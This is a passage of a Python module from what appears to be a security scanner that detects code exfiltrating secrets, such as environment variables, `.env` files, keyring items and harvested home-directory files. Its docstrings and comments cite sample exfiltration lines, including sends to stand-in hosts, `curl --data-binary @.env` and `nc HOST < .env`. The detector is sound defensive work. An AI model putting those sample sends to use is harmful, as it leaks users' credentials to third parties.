"""What Python code sends off the machine: the network modules and methods, the whole
environment sent (exfiltration), public listening addresses.
"""
from __future__ import annotations

import re

from ..per_input import holds, in_input
from .. import paths
from ..bash.ecosystems import printed_token, published_url
from ..common_code import remote_target
from ..hosts import loopback, public_ip
from ..finance_tables import customer_query, selects, service_host, ssh_key_name
from ..secret_owner import _OWN_NETWORK, owner, secret_name


_NET = ("requests.", "urllib.request.", "urllib2.", "httpx.", "http.client.", "aiohttp.", "socket.", "smtplib.",
        "ftplib.", "urllib3.")
# methods that send their arguments off the machine (with a socket or HTTP module in use)
_SEND = frozenset({"post", "put", "patch", "request", "urlopen", "Request", "send", "sendall", "sendto",
                   "sendmail", "send_message", "storbinary", "upload_file", "put_object"})

# PyGithub's and python-gitlab's calls that publish text where others read it (issues, comments, gists, pull
# requests, releases, files, snippets): the code form of `gh issue comment`, `gh gist create`
_PUBLISHES = frozenset({"create_comment", "create_issue", "create_gist", "create_pull", "create_git_release",
                        "create_issue_comment", "create_review_comment", "create_file", "update_file", "create_discussion",
                        "create_release", "create_snippet", "create_note", "create_commit_comment"})
_CODE_HOST_LIBRARIES = ("github", "gitlab")
# what a name in a published text may have been given to be followed: text and data, not the objects of the client
_TEXT_KINDS = frozenset({"dictionary", "string", "binary_operator", "list", "tuple", "concatenated_string"})
# what a name holding a request's payload may have been given (a dict, a call, a string built of parts)
_PAYLOAD_KINDS = frozenset({"dictionary", "call", "subscript", "string", "binary_operator", "list", "tuple",
                            "concatenated_string", "dictionary_comprehension", "list_comprehension", "expression_list"})
# where a request's data goes: the body, the query string and uploads (headers and `auth=` authenticate: the
# shell rules allow a token in `Authorization` whatever the host, and so do these)
_PAYLOAD_KEYS = ("json", "data", "params", "content", "files", "body", "fields")
_ENV_READS = frozenset({"os.environ.get", "os.getenv", "os.environ.__getitem__", "os.environ.pop"})
# library calls that return a stored token, read as the variable that holds the same token
TOKEN_GETTERS = {"huggingface_hub.get_token": "HF_TOKEN", "huggingface_hub.HfFolder.get_token": "HF_TOKEN",
                 "huggingface_hub.utils.get_token": "HF_TOKEN", "huggingface_hub.HfApi.token": "HF_TOKEN"}
# the Secret Service (GNOME keyring, KWallet) through secretstorage: listing its items, and reading one's secret
_STORE_LISTS = frozenset({"get_all_collections", "get_all_items", "search_items", "get_default_collection"})
SECRET_STORE_CALLS = _STORE_LISTS | {"get_secret"}
# serialisers of a whole object (the environment turned into text to be carried somewhere)
_SERIALISE = frozenset({"json.dumps", "json.dump", "yaml.dump", "yaml.safe_dump", "pickle.dumps", "str", "repr",
                        "urllib.parse.urlencode", "base64.b64encode"})
# decoders of a literal the code hides a path in: call -> how (common_code.decoded); codecs.decode says in its 2nd arg
_PATH_DECODERS = {"codecs.decode": "", "bytes.fromhex": "hex", "bytearray.fromhex": "hex", "binascii.unhexlify": "hex",
                  "binascii.a2b_hex": "hex", "base64.b64decode": "base64", "base64.urlsafe_b64decode": "base64url",
                  "base64.b32decode": "base32", "base64.decodebytes": "base64"}
# where an ssh client is handed a key or its configuration to log in with (paramiko, fabric, asyncssh; sshtunnel's
# SSHTunnelForwarder takes `ssh_pkey` and `ssh_config_file`)
_LOGIN_KEYWORDS = frozenset({"key_filename", "key_filenames", "client_keys", "config", "ssh_pkey", "ssh_private_key",
                             "ssh_config_file",
                             # (session 28) the network automation clients': Junos PyEZ, netmiko, scrapli, ncclient
                             "ssh_private_key_file", "key_file", "auth_private_key", "ssh_config"})
_LOGIN_CALLS = frozenset({"from_private_key_file", "from_path", "read_private_key", "import_private_key",
                          "load_keypairs", "read_ssh_config"})
_SSH_LIBRARIES = ("paramiko", "fabric", "asyncssh", "sshtunnel", "jnpr", "netmiko", "napalm", "scrapli", "ncclient",
                  "nornir")
# the wrappers a path goes through on its way to the client (`str(Path("~/.ssh/k").expanduser())`)
_PATH_WRAPS = frozenset({"str", "os.path.expanduser", "os.path.expandvars", "os.fspath", "pathlib.Path",
                         "os.path.join", "os.path.abspath", "os.path.realpath"})
# where a token may go: it authenticates the request (the shell rules allow `Authorization` whatever the host)
_AUTH_PLACES = frozenset({"headers", "auth", "cookies", "token", "api_key", "password", "access_token"})
_AUTH_HEADERS = ("authorization", "x-api-key", "private-token", "x-auth-token")
# what opens a file whose object a request streams as its body, or whose text `.read()` gives
_OPENS = frozenset({"open", "io.open", "codecs.open", "builtins.open", "gzip.open", "aiofiles.open"})
# a file object's or a Path's methods that give its whole content, and the parsers that read a file object whole
_READS = frozenset({"read", "read_text", "read_bytes", "readlines"})
_FILE_PARSERS = frozenset({"json.load", "yaml.safe_load", "yaml.load", "yaml.full_load", "tomllib.load", "toml.load",
                           "configparser.ConfigParser.read_file"})
# a database cursor's reads of every row it was asked for, and a connection's dump of the whole database
_DB_READS = frozenset({"fetchall", "fetchmany", "fetchone", "iterdump"})
# what a name handed to open() may have been given: a path written out, or made by a call (`os.path.expanduser(P)`)
_PATH_VALUES = frozenset({"string", "binary_operator", "call", "concatenated_string"})
_FILLS = frozenset({"update", "append", "extend", "add", "setdefault"})


def _held(path: str) -> bool:
    """A project's `.env`, a held credential file (paths.held_secret), or a credential file reached through a pattern
    (`f"/tmp/krb5cc_{os.getuid()}"`, a glob), which no literal names to be judged where it is read."""
    return paths.dotenv_file(path) or paths.held_secret(path) or "*" in path and paths.is_secret(path) or \
        _PROJECT_SECRETS.search(path) is not None


# the project's own folder of secrets, and the tokens an app stored in it (`.secrets/qbo_token.json`, the OAuth tokens
# of its accounting integrations, refreshed and read to call their API)
_PROJECT_SECRETS = re.compile(r"(?i)(?:^|/)\.?secrets?/(?:[^/]*/)?[^/]*(?:token|cred|secret|oauth|refresh|apikey|"
                              r"api_key|password)[^/]*$")


# a setting naming the key an ssh client logs in with, a configuration written back, and what would use the key itself
_KEY_SETTING = re.compile(r"(?i)^(?:ssh_?)?(?:private_?)?(?:key|identity)_?(?:file|filename|path)$|^ssh_?key$|^keyfile$")
_CONFIG_DUMP = re.compile(rb"\b(?:yaml\.(?:safe_)?dump|json\.dump|toml\.dump|tomli_w\.dump)\b|\.write_text\(")
_KEY_USED = re.compile(rb"expanduser|expandvars|shutil|subprocess|os\.system|\.read_bytes|copyfile|paramiko|"
                       rb"Path\.home|open\([^)\n]*key")

# a walk of a whole tree (the home, in credential_list's code)
_WALKS_TREE = re.compile(rb"\bos\.walk\(|\.rglob\(|\bglob\.i?glob\([^)]*recursive\s*=\s*True|\bos\.scandir\(")

# python-dotenv's reader: the variables of a `.env` file (`.env` itself when no path is given)
_DOTENV_READS = frozenset({"dotenv.dotenv_values", "dotenv.main.dotenv_values"})
# what sends a file's content over a socket, by mail or FTP/SFTP (a request's body is judged with its URL instead)
STREAM_SENDS = frozenset({"send", "sendall", "sendto", "sendmail", "send_message", "storbinary", "storlines", "put",
                          "putfo", "upload"})
# an SFTP client's sends of a local file by its path (requests' `put` takes its body with the URL: not judged here)
_PATH_SENDS = frozenset({"put", "upload"})
# an e-mail message's methods that put text into it
_MESSAGE_FILLS = frozenset({"set_content", "add_attachment", "attach", "set_payload"})
# what `_secret_reads` names a file read with, before its path
_FILE = "file:"
# an environment variable's name, as a child process's environment is keyed
_ENV_NAME = re.compile(r"[A-Z][A-Z0-9_]*$")
# names of collections kept to leave credential folders out (a backup's exclusions), not to reach them
_LEAVES_OUT = re.compile(r"(?i)exclu|ignor|skip|omit|deny|block|protect|private|never")


# a file's content read (python/network.py's walk harvest): open(…).read(), a Path's read_text/read_bytes
_CONTENT_READ = re.compile(rb"\bopen\s*\(|\.read_text\s*\(|\.read_bytes\s*\(|\bmmap\.")


# the keywords of a request call that authenticate it, and the names of the calls that make a request
_CREDENTIAL_KEYS = frozenset({"auth", "headers", "cookies", "cert"})
_REQUEST_VERBS = frozenset({"get", "post", "put", "patch", "delete", "head", "options", "request", "urlopen", "send",
                            "stream", "fetch"})


# the endpoints that answer with a credential: a new token, key or application password, a client's secret (Keycloak's
# `/clients/{id}/client-secret`)
_MINTS = re.compile(r"(?i)/(?:api[-_]?)?tokens?(?:\.json)?\b|/(?:api|access|deploy|ssh)[-_]?keys?\b|/credentials\b|"
                    r"/application[-_]passwords\b|/personal[-_]access[-_]tokens\b|/client[-_]?secrets?\b")


class Network:
    """Network use and the whole environment handed to it."""

    def mentions_env(self, node) -> bool:
        """Whether `node` holds the whole environment (`os.environ`, `dict(os.environ)`, a name
        assigned from it), not just one variable of it (`os.environ["X"]`, `.get`)."""
        txt = self.src(node)
        if "environ" not in txt and len(self.env_names) == 1 and "os.environ" not in self.alias.values():
            return False
        names = [n for n in self.env_names if n in txt]
        # `import os as _os` then `_os.environ`, `from os import environ as e`: the same environment
        names += [al for al, target in self.alias.items() if target == "os.environ" and al in txt] + [
            f"{al}.environ" for al, target in self.alias.items() if target == "os" and al != "os" and al in txt]
        return any(re.search(rf"(?<![\w.]){re.escape(n)}\b(?!\s*\[|\.(?:get|setdefault|pop)\b)", txt)
                   for n in names if n in txt)

    def code_host_publish(self, meth: str, node, args: list) -> None:
        """`issue.create_comment(body)`, `user.create_gist(True, files)`, `repo.create_issue(title, body)` with PyGithub
        or python-gitlab imported: the text goes to the code host for others to read, so the call sends as a request
        does (the whole environment, a printed token, a secret variable in it: exfiltration)."""
        if not any(v.split(".")[0] in _CODE_HOST_LIBRARIES for v in self.alias.values()):
            return
        self.uses_net = True
        self._env_sent(args)
        for name, read in self._secret_reads(args, _TEXT_KINDS)[:1]:  # (not the client's own token: `repo` is a call)
            name = f"the file {name[len(_FILE):]}" if name.startswith(_FILE) else name
            self.block("exfiltration", f"`{meth}` publishes {name} on the code host (an issue, a comment, a gist, a "
                                       "release), where others read it: never put credentials there", read)

    def _env_sent(self, args: list) -> None:
        for a in args:
            if self.mentions_env(a):
                self.env_whole.append(a)
        if args and self.lists and any(k.startswith(("carrier ", "token ")) for k in self.lists):
            self.carried_sent(args, args[0].parent)  # a secret a program printed (processes._carry)

    def _public_host(self, node) -> bool:
        """A `(host, port)` tuple whose host is not loopback."""
        if node.type != "tuple" or not node.named_children:
            return False
        host = self.string(node.named_children[0])
        return host is not None and host not in ("127.0.0.1", "localhost", "::1")

    def secrets_sent(self, what: str, node, url_node, payloads: list) -> None:
        """A request whose body or query (`payloads`) carries a secret read from the environment (`os.environ.get(
        "HF_TOKEN")`, also through a dict or a name bound to one) to a host written in the code that is not the
        secret's own service (secret_owner.py, as the shell rules read it): exfiltration. A secret whose name names no
        service (`API_KEY`, `CLIENT_SECRET`) and a host computed or read from the environment are not judged. The
        content of the project's `.env` or of a held credential file (`_file_read`) sent anywhere off the machine is
        judged by `_file_sent`."""
        if url_node is None or not payloads:
            return
        if self.walk_roots and self._walk_harvest(what, url_node, payloads):
            return
        found = self._secret_reads(payloads)
        if not found:
            return
        url = self._url_text(url_node)
        host = remote_target(url)
        if host is None:
            return
        for name, read in sorted(found, key=lambda f: f[1].start_byte):
            if name.startswith(_FILE):
                self._file_sent(what, name[len(_FILE):], host, read)
                return
            if not host:
                continue
            if published_url(url):  # `json={"body": os.environ["GITHUB_TOKEN"]}` to …/issues/1/comments
                self.block("exfiltration", f"`{what}` publishes {name} in an issue, a comment, a gist or a release "
                                           f"({host}), where others read it: its body is public text, not "
                                           "authentication; never put credentials there", read)
                return
            own = owner(name)
            if own is None or own.owns(host) or own.serves(url or "") or service_host(name, host) or \
                    self._token_exchange(read, url, host) or self._hook_credential(node, read, own, host):
                continue
            self.block("exfiltration", f"`{what}` sends {name} to {host}, which is not {own.described(name)}: the "
                                       "secret itself goes to that host; send a token only to its own service, in an "
                                       "Authorization header", read)
            return

    def _hook_credential(self, call, read, own, host: str) -> bool:
        """`requests.post(f"{zendesk}/webhooks", auth=zendesk_auth, json={"webhook": {"endpoint": "https://escalations
        .acme.example.com/zendesk", "authentication": {"data": {"token": os.environ["ESCALATIONS_TOKEN"]}}}})`: a
        webhook (or a connection) registered at a service through its own API, with the credential the service will
        present to the hook's endpoint, which is the token's own service. The token goes to the service that calls its
        owner, and only with the request authenticated to that service's host (a stranger's address, unauthenticated,
        is not registering anything)."""
        if not self._authenticated_to(call, host):
            return False
        n, levels = read.parent, 0
        while n is not None and n.type != "call" and levels < 6:  # the dicts around the token, up to the request
            if n.type == "dictionary":
                levels += 1
                for c in n.named_children:
                    v = c.child_by_field_name("value") if c.type == "pair" else None
                    text = self.string(v) if v is not None and v.type == "string" else None
                    if text and "://" in text and (h := remote_target(text)) and h != host and own.owns(h):
                        return True
            n = n.parent
        return False

    def _authenticated_to(self, call, host: str) -> bool:
        """Does the request `call` carry (in `auth=` or `headers=`) a secret whose own service is `host`?"""
        creds = [v for k in ("auth", "headers") if (v := self.kwarg(call, k)) is not None]
        return any((o := owner(name)) is not None and o.owns(host) for name, _ in self._secret_reads(creds, files=False))

    def _token_exchange(self, read, url: str | None, host: str) -> bool:
        """`requests.post("https://login.acme.com/realms/ops/protocol/openid-connect/token", data={"grant_type":
        "client_credentials", "client_id": "ops", "client_secret": os.environ["KC_OPS_SECRET"]})`: an app's own
        credential exchanged for an access token at an OAuth token endpoint over TLS, which is where a client secret
        or a refresh token is sent (finance_tables.TOKEN_PATH), to a host named (not a bare address)."""
        from ..finance_tables import GRANTS, OAUTH_SECRET_KEYS, TOKEN_PATH
        from ..hosts import ip_literal

        if not url or ip_literal(host) or not TOKEN_PATH.match(url):
            return False
        up = read.parent
        if up is None or up.type != "pair" or up.child_by_field_name("value") != read or \
                self.string(up.child_by_field_name("key")) not in OAUTH_SECRET_KEYS:
            return False
        body = up.parent
        grant = next((self.string(p.child_by_field_name("value")) for p in body.named_children if p.type == "pair" and
                      self.string(p.child_by_field_name("key")) == "grant_type"), None) if body is not None else None
        return grant in GRANTS

    def _walk_harvest(self, what: str, url_node, payloads: list) -> bool:
        """`for root, _, files in os.walk(os.path.expanduser("~")): … text = open(p).read(); hits += rx.findall(text)`
        then `requests.post(url, json=hits)`: what the code gathers from the content of the files it finds walking the
        home or a system tree (seed phrases, keys, tokens: whatever the pattern is after), sent off the machine. A walk
        that sends only names or sizes (an inventory of the repositories, a disk report) reads no file's content."""
        host = remote_target(self._url_text(url_node))
        if not host:
            return False
        names = {self.src(n) for p in payloads if p is not None for n in ([p] if p.type == "identifier" else
                                                                          p.named_children) if n.type == "identifier"}
        if not names:
            return False
        for walk, root in self.walk_roots:
            loop = walk.parent
            while loop is not None and not (loop.type == "for_statement" and
                                            loop.child_by_field_name("right") is not None and
                                            loop.child_by_field_name("right").start_byte <= walk.start_byte <
                                            loop.child_by_field_name("right").end_byte):
                loop = loop.parent
            body = loop.child_by_field_name("body") if loop is not None else None
            if body is None or not _CONTENT_READ.search(self.doc.data, body.start_byte, body.end_byte):
                continue
            text = self.doc.data[body.start_byte:body.end_byte]
            filled = next((n for n in sorted(names) if re.search(
                rb"(?<![\w.])" + re.escape(n.encode()) + rb"\s*(?:\+=|\[[^\]]*\]\s*=(?!=)|\.(?:append|extend|update|add|"
                rb"write)\s*\()", text)), None)
            if filled is not None:
                self.block("exfiltration", f"`{what}` sends {filled}, gathered from the content of the files the code "
                                           f"finds walking {root} (keys, seed phrases, tokens: whatever it looks for), "
                                           f"to {host}; never send the user's files off the machine", url_node)
                return True
        return False

    def secrets_in_headers(self, what: str, url_node, headers: list) -> bool:
        """`requests.get("https://telemetry-cdn.io/c", headers={"X-Api-Key": os.environ["OPENAI_API_KEY"]})`: a
        header authenticates, so a secret there is judged only for a host that is a stranger to its service
        (Owner.stranger_in_header, as the shell and TypeScript rules read it)."""
        host = remote_target(self._url_text(url_node)) if url_node is not None else None
        if not host:
            return False
        for name, read in sorted(self._secret_reads(headers, files=False), key=lambda f: f[1].start_byte):
            own = owner(name)
            if own is not None and own.stranger_in_header(host):
                self.block("exfiltration", f"`{what}` sends {name} in a header to {host}, which is not "
                                           f"{own.described(name)}: whoever runs that host can use the token; send a "
                                           "token only to its own service", read)
                return True
        return False

    def _secret_reads(self, payloads: list, kinds: frozenset = _PAYLOAD_KINDS, files: bool = True) -> list:
        """(variable name, node) of the secrets of the environment read in the expressions `payloads`, names bound
        to a dict, a string or a read followed (a few levels); with `files`, ("file:" + path, node) of the reads of a
        project's `.env` or a held credential file (`_file_read`)."""
        out: list = []
        stack = [(p, 0) for p in payloads if p is not None]
        seen = 0
        while stack and seen < 256:
            n, depth = stack.pop()
            seen += 1
            t = n.type
            if t == "call" and self.doc.data.find(b"token", n.start_byte, n.end_byte) > 0:
                q = self.qualname(n.child_by_field_name("function"))
                if q in TOKEN_GETTERS:  # huggingface_hub.get_token(): the stored token, as $HF_TOKEN is
                    out.append((TOKEN_GETTERS[q], n))
                    continue
            if t == "call" or t == "subscript":
                name = self._env_read(n)
                if name is not None:
                    if secret_name(name):
                        out.append((name, n))
                    continue
                path = self._file_read(n) if t == "call" and files else None
                if path is not None:
                    out.append((_FILE + path, n))
                    continue
                name = self._dotenv_value(n) if files else None
                if name is not None:  # cfg["OPENAI_API_KEY"] of `cfg = dotenv_values()`: that variable, as if read
                    if name and secret_name(name):  # from the environment
                        out.append((name, n))
                    continue
            elif t == "identifier" and depth < 3:
                opened = self.bound.get(self.src(n)) if files else None
                if opened is not None and opened.type == "call":  # fh of `with open(P, "rb") as fh`, streamed
                    path = self._file_read(opened)
                    if path is not None:
                        out.append((_FILE + path, n))
                        continue
                made = self.declared(n, kinds)
                if made is not None:
                    stack.append((made, depth + 1))
                    if files and made.type in ("dictionary", "list") and not made.named_children:
                        stack += [(x, depth + 1) for x in self._filled_with(n)]  # found = {}; found[k] = srv["env"]
                elif files:
                    looped = self.loop_source(n)  # srv of `for name, srv in json.loads(p.read_text()).items()`
                    if looped is not None:
                        stack.append((looped, depth + 1))
                continue
            if t == "call" and n.child_by_field_name("arguments") is not None and \
                    self.src(n.child_by_field_name("function")).rsplit(".", 1)[-1] in _REQUEST_VERBS and \
                    not _MINTS.search(self.src(n.child_by_field_name("arguments"))[:300]):
                # `pending = requests.get(url, auth=auth).json()`: the answer of a request that authenticated with a
                # secret holds what the service sent back, not the secret; what the request sent stays read. (The
                # answer of a request that mints a credential with it, `POST …/api_tokens.json`, is a secret of the
                # same service: read on as one.)
                stack.append((n.child_by_field_name("function"), depth))
                stack.extend((c, depth) for c in n.child_by_field_name("arguments").named_children
                             if not (c.type == "keyword_argument" and
                                     self.src(c.child_by_field_name("name")) in _CREDENTIAL_KEYS))
                continue
            # (a comprehension's `if` only tests what it names: `[k for k in NEEDED if k not in keys]` sends none of it)
            stack.extend((c, depth) for c in n.named_children if c.type != "if_clause")
        return out

    def _filled_with(self, ident) -> list:
        """What the code puts into the empty dict or list `ident` names: `d[k] = X`, `d.update(X)`, `l.append(X)`,
        `l.extend(X)` (a collection filled in a loop, then sent)."""
        out = []
        for use in (self.uses_of(ident) or ())[:32]:
            up = use.parent
            if up is None:
                continue
            if up.type == "subscript" and up.child_by_field_name("value") == use and up.parent is not None and \
                    up.parent.type == "assignment" and up.parent.child_by_field_name("left") == up:
                right = up.parent.child_by_field_name("right")
                out += [right] if right is not None else []
            elif up.type == "attribute" and up.child_by_field_name("object") == use and up.parent is not None and \
                    up.parent.type == "call" and self.src(up.child_by_field_name("attribute")) in _FILLS:
                out += self.args(up.parent)
        return out[:16]

    def _file_sent(self, what: str, path: str, host: str, read) -> None:
        """The content of the project's `.env` (every secret the app runs with) or of a held credential file (an agent's
        MCP table, a build tool's passwords: paths.held_secret) in a request to a host off this machine: exfiltration,
        whoever the host is, as `curl --data-binary @.env` and a TypeScript `fetch` of it are. A hosting platform's
        variables are set with its CLI (`heroku config:set`, `fly secrets import < .env`, `gh secret set -f .env`)."""
        said = "the project's environment file" if paths.dotenv_file(path) else "the credential file"
        self.block("exfiltration", f"`{what}` sends {said} {path} to {host or 'a host set in the environment'}: its "
                                   "secrets leave the machine; read the values the code needs, and set a platform's "
                                   "variables with its CLI", read)

    def _file_read(self, call) -> str | None:
        """The path of the project's `.env` or of a held credential file (paths.held_secret: `~/.claude.json`) that
        the call reads: `open(P)` (a file object a request streams), `open(P).read()`, `Path(P).read_text()`, `f.read()`
        of `with open(P) as f`, `json.load(open(P))`, `dotenv_values(P)` (`.env` with no path). None otherwise."""
        fn = call.child_by_field_name("function")
        if fn is None:
            return None
        q = self.qualname(fn)
        args = [a for a in self.args(call) if a.type != "keyword_argument"]
        if q in _DOTENV_READS:
            given = args[0] if args else self.kwarg(call, "dotenv_path")
            path = self.string(given) if given is not None else ".env"
        elif q in _OPENS:
            path = self._path_opened(args[0]) if args else None
        else:
            attr = self.src(fn.child_by_field_name("attribute")) if fn.type == "attribute" else ""
            if q in _FILE_PARSERS:
                src = args[0] if args else None
            elif attr in _READS:
                src = fn.child_by_field_name("object")
            elif attr in _DB_READS:
                return self._database_read(fn.child_by_field_name("object"))
            else:
                return None
            if src is not None and src.type == "identifier":
                src = self.bound.get(self.src(src), src)  # f of `with open(P) as f`, p of `p = Path(P)`
            if src is None:
                return None
            sq = self.qualname(src.child_by_field_name("function")) if src.type == "call" else None
            if sq in _OPENS:
                opened = [a for a in self.args(src) if a.type != "keyword_argument"]
                path = self._path_opened(opened[0]) if opened else None
            elif q not in _FILE_PARSERS:  # Path(P).read_text(), p.read_bytes() of `for p in [home / ".claude.json"]`
                path = self._path_opened(src) if src.type == "identifier" else self.string(src)
            else:
                path = None
        if path is None or paths.is_secret(path) and "*" not in path:
            return None  # (a credential file is blocked where it is named: secret-read; a pattern is not named)
        return path if _held(path) else None

    def _path_opened(self, node, depth: int = 0) -> str | None:
        """The path a file is opened by: a literal; an f-string read as a pattern (`f"/tmp/krb5cc_{os.getuid()}"` is
        `/tmp/krb5cc_*`); a name given one of those once; the name of a loop or comprehension over a literal list or a
        glob (`for name in [".env", "config/bot.json"]`, `for f in glob.glob(P)`): its first held path, else its first."""
        path = self.string(node)
        if path is not None or depth > 2:
            return path
        if node.type == "string":
            return self._pattern(node)
        if node.type == "call" and self.qualname(node.child_by_field_name("function")) in _PATH_WRAPS:
            inner = [a for a in self.args(node) if a.type != "keyword_argument"]
            return self._path_opened(inner[0], depth + 1) if len(inner) == 1 else None
        if node.type == "binary_operator" and self.src(node.child_by_field_name("operator")) == "/":
            return self._joined_opened(node, depth)
        if node.type != "identifier":
            return None
        made = self.declared(node, _PATH_VALUES)
        if made is not None:
            return self._path_opened(made, depth + 1)
        found = self._looped_paths(node, depth + 1)
        return next((p for p in found if _held(p)), found[0] if found else None)

    def _joined_opened(self, node, depth: int) -> str | None:
        """`cfg / name` with `cfg = Path("/config")`: the folder joined with the literal name, or with each name of the
        loop over a literal list that binds it (`for name in ["secrets.yaml", ".storage/auth"]`): its first held
        path, else its first."""
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        base = self._path_opened(left, depth + 1) if left is not None else None
        if base is None or right is None:
            return None
        tail = self.string(right)
        names = [tail] if tail is not None else self._looped_paths(right, depth + 1) if right.type == "identifier" else []
        found = [base.rstrip("/") + "/" + n.lstrip("/") for n in names if isinstance(n, str)]
        return next((p for p in found if _held(p)), found[0] if found else None)

    def _looped_paths(self, ident, depth: int = 0) -> list:
        """The paths the loop or comprehension that binds `ident` goes over: a literal list's items (or a name's
        given one), or a glob's pattern (`glob.glob(P)`, `Path(D).glob(P)`)."""
        right = self.loop_source(ident)
        if right is None:
            return []
        if right.type == "identifier":  # files = glob.glob(P); for f in files
            right = self.declared(right, frozenset({"call", "binary_operator"})) or right
        out: list = []
        for part in self._summed(right):  # glob.glob(P) + glob.glob(Q): both patterns
            if part.type == "call":
                out += [v for v in [self._globbed(part, depth)] if v]
            else:
                out += self.string_items(part)  # a literal list, a name given one, a comprehension over one
        return out

    def _summed(self, node) -> list:
        """The operands of `a + b + c` (lists or globs added up), else the node itself."""
        out, stack = [], [node]
        while stack and len(out) < 8:
            n = stack.pop()
            if n is None:
                continue
            if n.type == "binary_operator" and self.src(n.child_by_field_name("operator")) == "+":
                stack += [n.child_by_field_name("right"), n.child_by_field_name("left")]
            else:
                out.append(n)
        return out

    def _globbed(self, call, depth: int = 0) -> str | None:
        """The pattern of `glob.glob(P)`, `glob.iglob(P)`, `Path(D).glob(P)`, `Path(D).rglob(P)` (`D/**/P`).
        (the depth goes on: `for f in f.rglob(P)` rebinds the loop's name to a glob of itself)"""
        fn = call.child_by_field_name("function")
        q = self.qualname(fn) or ""
        args = [a for a in self.args(call) if a.type != "keyword_argument"]
        if not args:
            return None
        if q in ("glob.glob", "glob.iglob"):
            return self._path_opened(args[0], max(depth, 1))
        meth = self.src(fn.child_by_field_name("attribute")) if fn is not None and fn.type == "attribute" else ""
        if meth in ("glob", "rglob"):
            # (the folder as a name given `Path.home() / "sros2_keystore"` too: session 30)
            base, pattern = self._path_opened(fn.child_by_field_name("object"), max(depth, 1)), self.string(args[0])
            if base is None or pattern is None:
                return None
            return base.rstrip("/") + "/" + ("**/" if meth == "rglob" else "") + pattern
        return None

    def _database_read(self, obj) -> str | None:
        """The held file whose rows `cur.fetchall()`, `con.execute(Q).fetchall()` or `con.iterdump()` read: the
        database a name was given by `sqlite3.connect(P)` (a tool's token store, `~/.globus/cli/storage.db`)."""
        for _ in range(4):
            if obj is None:
                return None
            if obj.type == "identifier":
                obj = self.declared(obj, frozenset({"call"}))
                continue
            if obj.type != "call":
                return None
            fn = obj.child_by_field_name("function")
            if self.qualname(fn) in ("sqlite3.connect", "sqlite3.dbapi2.connect"):
                args = [a for a in self.args(obj) if a.type != "keyword_argument"]
                path = self._path_opened(args[0]) if args else None
                return path if path is not None and _held(path) else None
            if fn is None or fn.type != "attribute":  # con.execute(Q), con.cursor()
                return None
            obj = fn.child_by_field_name("object")
        return None

    def file_streamed(self, meth: str, node, pos: list) -> None:
        """A socket's, a mail client's or an FTP/SFTP client's send of the project's `.env` or a held credential file
        (`sock.sendall(open(".env", "rb").read())`, `ftp.storbinary("STOR e", open(".env", "rb"))`, paramiko's
        `sftp.put(".env", …)`, an `EmailMessage` given the file's text then `send_message`). An SFTP client's copy is
        blocked at once (as `scp .env HOST:` is); the others are kept for the end of the walk, which blocks them when
        the code uses the network (as `nc HOST < .env` is)."""
        if "file sent" in self.lists or not pos:
            return
        args = list(pos)
        if meth == "send_message" and pos[0].type == "identifier":  # msg.set_content(…) / add_attachment(…) earlier
            for use in (self.uses_of(pos[0]) or ())[:16]:
                up = use.parent
                if up is not None and up.type == "attribute" and up.child_by_field_name("object") == use and \
                        self.src(up.child_by_field_name("attribute")) in _MESSAGE_FILLS and up.parent.type == "call":
                    args += self.args(up.parent)
        found = [r for name, r in self._secret_reads(args) if name.startswith(_FILE)] if meth not in _PATH_SENDS else []
        if meth in _PATH_SENDS and any(v.split(".")[0] in _SSH_LIBRARIES or v.startswith(
                "pysftp") for v in self.alias.values()):
            path = self.string(pos[0])  # an SFTP client's local path: to another machine, as scp sends it
            if path is not None and (paths.dotenv_file(path) or paths.held_secret(path)):
                self.block("exfiltration", f"`{meth}` copies {path} to another machine over SFTP; never send secrets "
                                           "off it", pos[0])
                return
        if found:
            self.lists["file sent"] = found[0]

    def s3_foreign_upload(self, meth: str, fn, node) -> None:
        """`boto3.client("s3", endpoint_url="https://198.51.100.30", aws_access_key_id="AKIA…", …).upload_file(…)`: the
        project's files uploaded to an S3 service at a bare public address with keys written into the code, someone
        else's storage, as `aws s3 sync … --endpoint-url https://IP` with keys in the command is (bash/net.py)."""
        root, _, made = self.origin(fn.child_by_field_name("object"))
        if made is None or root not in ("boto3.client", "boto3.resource", "boto3.session.Session.client") or \
                self.kwarg(made, "aws_access_key_id") is None or self.string(self.kwarg(made, "aws_access_key_id")) \
                is None:
            return
        from ..hosts import public_ip, url_host

        endpoint = self.kwarg(made, "endpoint_url")
        url = self.string(endpoint) if endpoint is not None else None
        host = url_host(url) if url else None
        if host and public_ip(host):
            self.block("exfiltration", f"`{meth}` uploads to an S3 service at {host}, a bare address, with keys written "
                                       "into the code: storage that is not the user's; upload only with the user's own "
                                       "configured credentials, and let the user move data elsewhere", node)
        elif not (host and (loopback(host) or _OWN_NETWORK.search(host))):
            # keys written into the code (not the user's configured ones) reach another account's bucket: what the
            # code gathered (a secret store's every value) leaves as it would over HTTP (walk.py's archives)
            self.uses_net = True

    def _dotenv_value(self, node) -> str | None:
        """The variable `cfg["K"]` or `cfg.get("K")` picks of a `.env` file's variables (`cfg = dotenv_values()`):
        "K", "" when the key is computed; None when `node` is no such pick."""
        if node.type == "subscript":
            base, key = node.child_by_field_name("value"), node.child_by_field_name("subscript")
        else:
            fn = node.child_by_field_name("function")
            if fn is None or fn.type != "attribute" or self.src(fn.child_by_field_name("attribute")) != "get":
                return None
            base, key = fn.child_by_field_name("object"), (self.args(node) or [None])[0]
        if base is not None and base.type == "identifier":
            base = self.declared(base, _PAYLOAD_KINDS)
        if base is None or base.type != "call" or self.qualname(base.child_by_field_name("function")) not in \
                _DOTENV_READS or self._file_read(base) is None:
            return None
        return (self.string(key) or "") if key is not None else ""

    def _env_read(self, node) -> str | None:
        """The variable `os.environ.get("X")`, `os.getenv("X")`, `os.environ["X"]` reads; None for anything else."""
        if node.type == "subscript":
            key = node.child_by_field_name("subscript")
            return self.string(key) if key is not None and self.qualname(node.child_by_field_name("value")) == \
                "os.environ" else None
        if self.qualname(node.child_by_field_name("function")) in _ENV_READS:
            args = self.args(node)
            return self.string(args[0]) if args else None
        return None

    # -- secrets gathered in ways the send does not show ---------------------------------------------------------
    def secret_store(self, name: str, node) -> None:
        """secretstorage's listing of every item (`get_all_collections`, `get_all_items`) with `get_secret()` read
        from them: every password of the desktop keyring, sent off when the code uses the network (walk.py)."""
        if not any(v.split(".")[0] == "secretstorage" for v in self.alias.values()):
            return
        key = "store secret" if name == "get_secret" else "store listing"
        self.lists.setdefault(key, node)
        if "store secret" in self.lists and "store listing" in self.lists and "store read" not in self.lists:
